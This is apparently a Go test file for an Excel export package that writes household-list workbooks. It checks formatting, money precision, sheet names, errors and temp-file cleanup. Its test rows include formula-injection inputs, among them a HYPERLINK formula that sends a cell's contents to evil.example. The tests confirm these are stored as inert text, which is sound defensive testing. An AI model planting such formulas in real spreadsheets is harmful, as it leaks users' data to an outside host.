package export

import (
	"archive/zip"
	"bytes"
	"encoding/xml"
	"errors"
	"io"
	"math/rand/v2"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"fangpin/internal/civil"
	"fangpin/internal/money"
	"fangpin/internal/testkit"
)

// householdCols is a list as the household export will have it.
var householdCols = []Column{
	{Header: "户编号", Width: 22},
	{Header: "户主姓名"},
	{Header: "证件号码", Width: 20},
	{Header: "联系电话"},
	{Header: "家庭人口", Kind: Integer},
	{Header: "人均纯收入（元）", Kind: Money},
	{Header: "收入增幅", Kind: Percent, Format: "0.0%"},
	{Header: "识别日期", Kind: Date},
	{Header: "识别监测时间", Kind: Month},
	{Header: "帮扶资金", Kind: Integer, Format: "#,##0"},
}

const hyperlink = `=HYPERLINK("http://evil.example/?x="&A3,"点击查看")`

// householdRows are the data rows written by writeWorkbook, row 3 on.
var householdRows = [][]any{
	{"620302101001000001", "张三", "620302199001011234", "13912345678", 4, int64(1234556), 0.125, civil.Date(20261128), civil.Month(202611), 1234567},
	{"620302101001000002", hyperlink, "62030219900101123X", "0935-1234567", int64(1), int64(1), -0.05, civil.Date(20250101), civil.Month(202501), 0},
	{"620302101001000003", "+SUM(1,2)", nil, "-1", nil, int64(-5), nil, civil.Date(0), civil.Month(0), nil},
	{"620302101001000004", "@cmd", "", "\tTAB", 2, int64(10), 1.0, civil.Date(18991231), civil.Month(202412), -3},
	{"620302101001000005", "李\x00四\x1b\uFFFE", "\r=1+1", "０９３５", 3, int64(99999999999999), 0.0, civil.Date(19000301), civil.Month(202601), 12},
}

// writeWorkbook writes a two-sheet workbook: the household list with a title
// and a small table without one.
func writeWorkbook(t *testing.T) []byte {
	t.Helper()
	var buf bytes.Buffer
	x := NewXLSX(&buf)
	sh := x.Sheet("农户名单", "金昌市 农户名单 截至2026年11月28日", householdCols)
	for _, r := range householdRows {
		if err := sh.Row(r...); err != nil {
			t.Fatal(err)
		}
	}
	tb := x.Sheet("汇总/统计", "", []Column{{Header: "县区"}, {Header: "户数", Kind: Integer}})
	if err := tb.Row("金川区", 12); err != nil {
		t.Fatal(err)
	}
	if err := x.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func openBook(t *testing.T, data []byte) *excelize.File {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	return f
}

func TestXLSXLayout(t *testing.T) {
	f := openBook(t, writeWorkbook(t))
	if got := f.GetSheetList(); strings.Join(got, "|") != "农户名单|汇总／统计" {
		t.Fatalf("sheets %q", got)
	}
	const sh = "农户名单"
	get := func(cell string) string {
		v, err := f.GetCellValue(sh, cell)
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
	if v := get("A1"); v != "金昌市 农户名单 截至2026年11月28日" {
		t.Errorf("title %q", v)
	}
	merged, err := f.GetMergeCells(sh)
	if err != nil || len(merged) != 1 || merged[0].GetStartAxis() != "A1" || merged[0].GetEndAxis() != "J1" {
		t.Errorf("title merge %v %v", merged, err)
	}
	titleStyle, _ := f.GetCellStyle(sh, "A1")
	if st, _ := f.GetStyle(titleStyle); st.Font == nil || !st.Font.Bold || st.Font.Size < 12 {
		t.Errorf("title style %+v", st.Font)
	}
	for i, c := range householdCols {
		cell, _ := excelize.CoordinatesToCellName(i+1, 2)
		if v := get(cell); v != c.Header {
			t.Errorf("header %s = %q, want %q", cell, v, c.Header)
		}
		hs, _ := f.GetCellStyle(sh, cell)
		if st, _ := f.GetStyle(hs); st.Font == nil || !st.Font.Bold {
			t.Errorf("header %s not bold", cell)
		}
	}
	panes, err := f.GetPanes(sh)
	if err != nil || !panes.Freeze || panes.YSplit != 2 || panes.XSplit != 0 || panes.TopLeftCell != "A3" {
		t.Errorf("panes %+v %v", panes, err)
	}
	if panes, _ := f.GetPanes("汇总／统计"); !panes.Freeze || panes.YSplit != 1 || panes.TopLeftCell != "A2" {
		t.Errorf("panes without title %+v", panes)
	}
	if v, _ := f.GetCellValue("汇总／统计", "A1"); v != "县区" {
		t.Errorf("header without title %q", v)
	}
	// Widths: given, from a CJK header (two cells a character), or the
	// kind's minimum.
	for col, want := range map[string]float64{"A": 22, "B": 10, "E": 10, "F": 18, "H": 12} {
		if w, _ := f.GetColWidth(sh, col); w != want {
			t.Errorf("width of %s = %v, want %v", col, w, want)
		}
	}
}

func TestXLSXValuesAndFormats(t *testing.T) {
	f := openBook(t, writeWorkbook(t))
	const sh = "农户名单"
	raw := func(cell string) string {
		v, err := f.GetCellValue(sh, cell, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
	shown := func(cell string) string {
		v, _ := f.GetCellValue(sh, cell)
		return v
	}
	numFmt := func(cell string) (int, string) {
		id, _ := f.GetCellStyle(sh, cell)
		st, err := f.GetStyle(id)
		if err != nil {
			t.Fatal(err)
		}
		custom := ""
		if st.CustomNumFmt != nil {
			custom = *st.CustomNumFmt
		}
		return st.NumFmt, custom
	}
	cases := []struct {
		cell, raw, shown string
		typ              excelize.CellType
		fmtID            int
		custom           string
	}{
		{"A3", "620302101001000001", "620302101001000001", excelize.CellTypeInlineString, 49, ""},
		{"C3", "620302199001011234", "620302199001011234", excelize.CellTypeInlineString, 49, ""},
		{"D3", "13912345678", "13912345678", excelize.CellTypeInlineString, 49, ""},
		{"E3", "4", "4", excelize.CellTypeUnset, 1, ""},
		{"F3", "12345.56", "12,345.56", excelize.CellTypeUnset, 4, ""},
		{"G3", "0.125", "12.5%", excelize.CellTypeUnset, 0, "0.0%"},
		{"H3", "46354", "2026-11-28", excelize.CellTypeUnset, 0, "yyyy-mm-dd"},
		{"I3", "202611", "202611", excelize.CellTypeInlineString, 49, ""},
		{"J3", "1234567", "1,234,567", excelize.CellTypeUnset, 3, ""},
		{"F4", "0.01", "0.01", excelize.CellTypeUnset, 4, ""},
		{"G4", "-0.05", "-5.0%", excelize.CellTypeUnset, 0, "0.0%"},
		{"F5", "-0.05", "-0.05", excelize.CellTypeUnset, 4, ""},
		{"D5", "-1", "-1", excelize.CellTypeInlineString, 49, ""},
		{"F6", "0.1", "0.10", excelize.CellTypeUnset, 4, ""},
		{"H6", "1899-12-31", "1899-12-31", excelize.CellTypeInlineString, 0, "yyyy-mm-dd"},
		{"F7", "999999999999.99", "999,999,999,999.99", excelize.CellTypeUnset, 4, ""},
		{"H7", "61", "1900-03-01", excelize.CellTypeUnset, 0, "yyyy-mm-dd"},
		{"D7", "０９３５", "０９３５", excelize.CellTypeInlineString, 49, ""},
	}
	for _, c := range cases {
		if got := raw(c.cell); got != c.raw {
			t.Errorf("%s raw = %q, want %q", c.cell, got, c.raw)
		}
		if got := shown(c.cell); got != c.shown {
			t.Errorf("%s shown = %q, want %q", c.cell, got, c.shown)
		}
		if typ, _ := f.GetCellType(sh, c.cell); typ != c.typ {
			t.Errorf("%s type = %v, want %v", c.cell, typ, c.typ)
		}
		if id, custom := numFmt(c.cell); id != c.fmtID || custom != c.custom {
			t.Errorf("%s format = %d %q, want %d %q", c.cell, id, custom, c.fmtID, c.custom)
		}
	}
	// Empty values leave the cell empty, whatever the kind.
	for _, cell := range []string{"C5", "E5", "G5", "H5", "I5", "J5", "C6"} {
		if v := raw(cell); v != "" {
			t.Errorf("%s = %q, want empty", cell, v)
		}
	}
	if v := raw("B7"); v != "李四" {
		t.Errorf("control characters kept: %q", v)
	}
}

// TestXLSXFormulaSafe checks that text that reads as a formula is stored as
// an inline string with the quote prefix, never as a formula, and reads back
// as the literal text.
func TestXLSXFormulaSafe(t *testing.T) {
	data := writeWorkbook(t)
	f := openBook(t, data)
	const sh = "农户名单"
	for cell, want := range map[string]string{"B4": hyperlink, "B5": "+SUM(1,2)", "B6": "@cmd", "D6": "\tTAB", "C7": "\r=1+1", "D5": "-1"} {
		if v, _ := f.GetCellValue(sh, cell); v != want {
			t.Errorf("%s = %q, want %q", cell, v, want)
		}
		if formula, _ := f.GetCellFormula(sh, cell); formula != "" {
			t.Errorf("%s has formula %q", cell, formula)
		}
		id, _ := f.GetCellStyle(sh, cell)
		if xf := f.Styles.CellXfs.Xf[id]; xf.QuotePrefix == nil || !*xf.QuotePrefix {
			t.Errorf("%s style %d has no quote prefix", cell, id)
		}
	}
	if id, _ := f.GetCellStyle(sh, "B3"); f.Styles.CellXfs.Xf[id].QuotePrefix != nil {
		t.Errorf("plain text B3 carries the quote prefix")
	}
	sheet := testkit.ZipPart(t, data, "xl/worksheets/sheet1.xml")
	if strings.Contains(sheet, "<f>") || strings.Contains(sheet, "<f ") {
		t.Error("worksheet holds a formula")
	}
	cell := regexp.MustCompile(`<c r="B4"[^>]*>`).FindString(sheet)
	if !strings.Contains(cell, `t="inlineStr"`) {
		t.Errorf("B4 is %s, want an inline string", cell)
	}
	if !strings.Contains(testkit.ZipPart(t, data, "xl/styles.xml"), `quotePrefix="true"`) {
		t.Error("styles have no quotePrefix")
	}
	// Every part must be well-formed XML (a hostile name cannot corrupt the
	// file).
	zr, _ := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	for _, zf := range zr.File {
		if strings.HasSuffix(zf.Name, ".xml") || strings.HasSuffix(zf.Name, ".rels") {
			wellFormed(t, zf.Name, testkit.ZipPart(t, data, zf.Name))
		}
	}
	// Columns ascend, as Excel requires.
	mins := regexp.MustCompile(`<col min="(\d+)"`).FindAllStringSubmatch(sheet, -1)
	for i, m := range mins {
		if m[1] != strconv.Itoa(i+1) {
			t.Fatalf("cols out of order: %v", mins)
		}
	}
}

func wellFormed(t *testing.T, name, doc string) {
	t.Helper()
	dec := xml.NewDecoder(strings.NewReader(doc))
	for {
		_, err := dec.Token()
		if err == io.EOF {
			return
		}
		if err != nil {
			t.Fatalf("%s is not well-formed: %v", name, err)
		}
	}
}

// TestMoneyExact checks that fen/100 as written prints back as the exact
// decimal for every amount a test can reach, and in a workbook.
func TestMoneyExact(t *testing.T) {
	rng := rand.New(rand.NewPCG(1, 2))
	check := func(fen int64) {
		if got, want := strconv.FormatFloat(float64(fen)/100, 'f', -1, 64), money.Yuan(fen); got != want {
			t.Fatalf("%d fen written as %s, want %s", fen, got, want)
		}
	}
	for fen := int64(-100000); fen <= 100000; fen++ {
		check(fen)
	}
	for range 1_000_000 {
		check(rng.Int64N(maxExactFen))
	}
	check(maxExactFen - 1)

	var buf bytes.Buffer
	x := NewXLSX(&buf)
	sh := x.Sheet("金额", "", []Column{{Header: "金额", Kind: Money}})
	amounts := []int64{0, 1, 7, 10, 99, 101, 110, 123456, 1999999, 2000001, 30000000, maxExactFen - 1, -1, -123456}
	for range 500 {
		amounts = append(amounts, rng.Int64N(1e12))
	}
	for _, fen := range amounts {
		if err := sh.Row(fen); err != nil {
			t.Fatal(err)
		}
	}
	if err := sh.Row(int64(maxExactFen)); err == nil {
		t.Error("an amount beyond exact display was accepted")
	}
	x.Abort()
	x = NewXLSX(&buf)
	sh = x.Sheet("金额", "", []Column{{Header: "金额", Kind: Money}})
	for _, fen := range amounts {
		sh.Row(fen)
	}
	if err := x.Close(); err != nil {
		t.Fatal(err)
	}
	f := openBook(t, buf.Bytes())
	for i, fen := range amounts {
		cell := "A" + strconv.Itoa(i+2)
		if v, _ := f.GetCellValue("金额", cell, excelize.Options{RawCellValue: true}); v != money.Yuan(fen) {
			t.Errorf("%s = %s, want %s", cell, v, money.Yuan(fen))
		}
	}
}

func TestXLSXLongTextCapped(t *testing.T) {
	var buf bytes.Buffer
	x := NewXLSX(&buf)
	sh := x.Sheet("长文本", "", []Column{{Header: "备注"}, {Header: "表情"}})
	long := strings.Repeat("长", 40000)
	emoji := strings.Repeat("😀", 20000) // two UTF-16 units each
	if err := sh.Row(long, emoji); err != nil {
		t.Fatal(err)
	}
	if err := x.Close(); err != nil {
		t.Fatal(err)
	}
	f := openBook(t, buf.Bytes())
	if v, _ := f.GetCellValue("长文本", "A2"); v != strings.Repeat("长", maxCellChars) {
		t.Errorf("long text kept %d characters", len([]rune(v)))
	}
	if v, _ := f.GetCellValue("长文本", "B2"); v != strings.Repeat("😀", maxCellChars/2) {
		t.Errorf("emoji text kept %d characters", len([]rune(v)))
	}
}

func TestSheetNames(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"农户名单", "农户名单"},
		{"汇总: 2026/11 [县]?*\\", "汇总： 2026／11 ［县］？＊＼"},
		{"'引号'", "引号"},
		{"", "Sheet"},
		{"\x00\t ", "Sheet"},
		{"history", "history_"},
		{strings.Repeat("表", 40), strings.Repeat("表", 31)},
		{strings.Repeat("😀", 20), strings.Repeat("😀", 15)},
		{strings.Repeat("a", 30) + "'b", strings.Repeat("a", 30)},
	} {
		if got := sheetName(c.in); got != c.want {
			t.Errorf("sheetName(%q) = %q, want %q", c.in, got, c.want)
		}
	}
	x := &XLSX{names: map[string]bool{}}
	long := strings.Repeat("表", 31)
	var got []string
	for _, n := range []string{"名单", "名单", "Sheet", "SHEET", "名单", long, long} {
		got = append(got, x.uniqueName(n))
	}
	want := []string{"名单", "名单 (2)", "Sheet", "SHEET (2)", "名单 (3)", long, strings.Repeat("表", 27) + " (2)"}
	if strings.Join(got, "|") != strings.Join(want, "|") {
		t.Errorf("unique names %q, want %q", got, want)
	}
	// Every name excelize accepts: a workbook with them all opens.
	var buf bytes.Buffer
	b := NewXLSX(&buf)
	for _, n := range []string{"a:b", "a:b", "[x]", "'", strings.Repeat("长", 50), strings.Repeat("长", 50)} {
		b.Sheet(n, "", []Column{{Header: "h"}})
	}
	if err := b.Close(); err != nil {
		t.Fatal(err)
	}
	if n := len(openBook(t, buf.Bytes()).GetSheetList()); n != 6 {
		t.Errorf("%d sheets, want 6", n)
	}
}

func TestXLSXErrors(t *testing.T) {
	cols := []Column{{Header: "姓名"}, {Header: "人数", Kind: Integer}}
	for _, c := range []struct {
		name string
		cols []Column
		row  []any
	}{
		{"too few values", cols, []any{"张三"}},
		{"too many values", cols, []any{"张三", 1, 2}},
		{"float in integer column", cols, []any{"张三", 1.5}},
		{"string in integer column", cols, []any{"张三", "1"}},
		{"float in text column", cols, []any{1.5, 1}},
		{"string in money column", []Column{{Header: "金额", Kind: Money}}, []any{"1.00"}},
		{"int in percent column", []Column{{Header: "比例", Kind: Percent}}, []any{1}},
		{"string in date column", []Column{{Header: "日期", Kind: Date}}, []any{"2026-11-28"}},
		{"month in date column", []Column{{Header: "日期", Kind: Date}}, []any{civil.Month(202611)}},
		{"string in month column", []Column{{Header: "月份", Kind: Month}}, []any{"202611"}},
		{"uint64 beyond int64", cols, []any{"张三", uint64(1 << 63)}},
		{"bad format", []Column{{Header: "人数", Kind: Integer, Format: "0.00"}}, []any{1}},
		{"bad kind", []Column{{Header: "x", Kind: Kind(42)}}, []any{1}},
		{"no columns", nil, []any{}},
	} {
		t.Run(c.name, func(t *testing.T) {
			var buf bytes.Buffer
			x := NewXLSX(&buf)
			sh := x.Sheet("表", "", c.cols)
			err := sh.Row(c.row...)
			if err == nil {
				t.Fatal("no error")
			}
			if !strings.HasPrefix(err.Error(), "export: ") {
				t.Errorf("error %q", err)
			}
			if err2 := x.Close(); !errors.Is(err2, err) && err2.Error() != err.Error() {
				t.Errorf("Close = %v, want the sticky %v", err2, err)
			}
			if buf.Len() != 0 {
				t.Errorf("%d bytes written after an error", buf.Len())
			}
		})
	}
	t.Run("finished sheet", func(t *testing.T) {
		x := NewXLSX(io.Discard)
		defer x.Abort()
		first := x.Sheet("一", "", cols)
		x.Sheet("二", "", cols)
		if err := first.Row("张三", 1); !errors.Is(err, errFinished) {
			t.Errorf("row on a finished sheet: %v", err)
		}
	})
	t.Run("sheet after close", func(t *testing.T) {
		x := NewXLSX(io.Discard)
		if err := x.Close(); err != nil {
			t.Fatal(err)
		}
		if err := x.Sheet("晚", "", cols).Row("张三", 1); !errors.Is(err, errFinished) {
			t.Errorf("row on a sheet after Close: %v", err)
		}
	})
}

// spillRows writes enough text that excelize's stream (16 MiB in memory)
// spills to a temporary file.
func spillRows(t *testing.T, sh *Sheet) {
	t.Helper()
	text := strings.Repeat("x", 10000)
	for range 1800 {
		if err := sh.Row(text); err != nil {
			t.Fatal(err)
		}
	}
}

type failWriter struct{ n int }

func (w *failWriter) Write(p []byte) (int, error) {
	if w.n += len(p); w.n > 1000 {
		return 0, errors.New("connection reset")
	}
	return len(p), nil
}

// TestXLSXTempFilesRemoved checks that the workbook's temporary files are
// gone after Close and Abort, on success and on every kind of failure.
func TestXLSXTempFilesRemoved(t *testing.T) {
	for _, c := range []struct {
		name  string
		w     io.Writer
		after func(*XLSX, *Sheet) error
	}{
		{"success", io.Discard, func(x *XLSX, _ *Sheet) error { return x.Close() }},
		{"writer fails", &failWriter{}, func(x *XLSX, _ *Sheet) error { return x.Close() }},
		{"bad row", io.Discard, func(x *XLSX, sh *Sheet) error { sh.Row(1.5); return x.Close() }},
		{"aborted", io.Discard, func(x *XLSX, _ *Sheet) error { x.Abort(); return errors.New("aborted") }},
		{"second sheet then abort", io.Discard, func(x *XLSX, _ *Sheet) error {
			spillRows(t, x.Sheet("二", "", []Column{{Header: "备注"}}))
			x.Abort()
			return errors.New("aborted")
		}},
	} {
		t.Run(c.name, func(t *testing.T) {
			tmp := t.TempDir()
			t.Setenv("TMPDIR", tmp)
			x := NewXLSX(c.w)
			sh := x.Sheet("一", "标题", []Column{{Header: "备注"}})
			spillRows(t, sh)
			spilled, _ := filepath.Glob(filepath.Join(x.tmp, "excelize-*"))
			if len(spilled) == 0 {
				t.Fatal("the stream did not spill to a temporary file; the test proves nothing")
			}
			err := c.after(x, sh)
			if (err == nil) != (c.name == "success") {
				t.Errorf("error %v", err)
			}
			left, _ := os.ReadDir(tmp)
			if len(left) != 0 {
				t.Errorf("left behind in TMPDIR: %v", left)
			}
			x.Abort() // a no-op now
			if err2 := x.Close(); (err2 == nil) != (err == nil) {
				t.Errorf("second Close = %v after %v", err2, err)
			}
		})
	}
}

func TestXLSXEmptyWorkbook(t *testing.T) {
	var buf bytes.Buffer
	if err := NewXLSX(&buf).Close(); err != nil {
		t.Fatal(err)
	}
	if got := openBook(t, buf.Bytes()).GetSheetList(); len(got) != 1 {
		t.Errorf("sheets %q", got)
	}
}

// benchCols are twenty columns of every kind, as a wide household list has.
var benchCols = func() []Column {
	cols := []Column{
		{Header: "户编号", Width: 22}, {Header: "户主姓名"}, {Header: "证件号码", Width: 20}, {Header: "联系电话"},
		{Header: "县"}, {Header: "乡镇"}, {Header: "村"}, {Header: "监测对象类别"},
		{Header: "家庭人口", Kind: Integer}, {Header: "劳动力", Kind: Integer}, {Header: "在校生", Kind: Integer},
		{Header: "帮扶措施数", Kind: Integer, Format: "#,##0"},
		{Header: "人均纯收入（元）", Kind: Money}, {Header: "工资性收入（元）", Kind: Money}, {Header: "帮扶资金（元）", Kind: Money},
		{Header: "收入增幅", Kind: Percent}, {Header: "自付比例", Kind: Percent, Format: "0.0%"},
		{Header: "识别日期", Kind: Date}, {Header: "消除日期", Kind: Date}, {Header: "识别监测时间", Kind: Month},
	}
	return cols
}()

// benchRow fills vals with row i's values.
func benchRow(vals []any, i int) {
	id := strconv.Itoa(620302101001000000 + i)
	vals[0], vals[1], vals[2], vals[3] = id, "张三丰", "62030219900101"+strconv.Itoa(1000+i%9000), "139"+strconv.Itoa(10000000+i)
	vals[4], vals[5], vals[6], vals[7] = "金川区", "宁远堡镇", "龙景村", "脱贫不稳定户"
	vals[8], vals[9], vals[10], vals[11] = 1+i%6, i%4, i%3, i%12
	vals[12], vals[13], vals[14] = int64(600000+i%100000), int64(i%5000000), int64(i%1000)*100
	vals[15], vals[16] = float64(i%1000)/1000, float64(i%37)/100
	vals[17], vals[18], vals[19] = civil.Date(20200101).AddDays(i%2000), civil.Date(0), civil.Month(202001).Add(i%70)
}

type countWriter struct{ n int64 }

func (w *countWriter) Write(p []byte) (int, error) { w.n += int64(len(p)); return len(p), nil }

// BenchmarkXLSX writes 20,000 and 200,000 rows of twenty columns and reports
// the peak of the heap in use (sampled every 10 ms while writing and
// closing) next to the allocations: streaming means the peak stays the same
// order whatever the number of rows.
//
//	go test -run '^$' -bench BenchmarkXLSX -benchtime 1x ./internal/export
func BenchmarkXLSX(b *testing.B) {
	for _, rows := range []int{20_000, 200_000} {
		b.Run(strconv.Itoa(rows)+"rows", func(b *testing.B) {
			b.ReportAllocs()
			var peak uint64
			var out countWriter
			for range b.N {
				runtime.GC()
				stop := sampleHeap(&peak)
				x := NewXLSX(&out)
				sh := x.Sheet("农户名单", "金昌市 农户名单 截至2026年11月28日", benchCols)
				vals := make([]any, len(benchCols))
				for i := range rows {
					benchRow(vals, i)
					if err := sh.Row(vals...); err != nil {
						b.Fatal(err)
					}
				}
				if err := x.Close(); err != nil {
					b.Fatal(err)
				}
				stop()
			}
			b.ReportMetric(float64(peak)/(1<<20), "peak-heap-MiB")
			b.ReportMetric(float64(out.n)/float64(b.N)/(1<<20), "file-MiB")
		})
	}
}

// sampleHeap records the largest HeapInuse in *peak until stop is called.
func sampleHeap(peak *uint64) (stop func()) {
	done := make(chan struct{})
	finished := make(chan struct{})
	sample := func() {
		var m runtime.MemStats
		runtime.ReadMemStats(&m)
		*peak = max(*peak, m.HeapInuse)
	}
	go func() {
		defer close(finished)
		tick := time.NewTicker(10 * time.Millisecond)
		defer tick.Stop()
		for {
			select {
			case <-done:
				sample()
				return
			case <-tick.C:
				sample()
			}
		}
	}()
	return func() { close(done); <-finished }
}
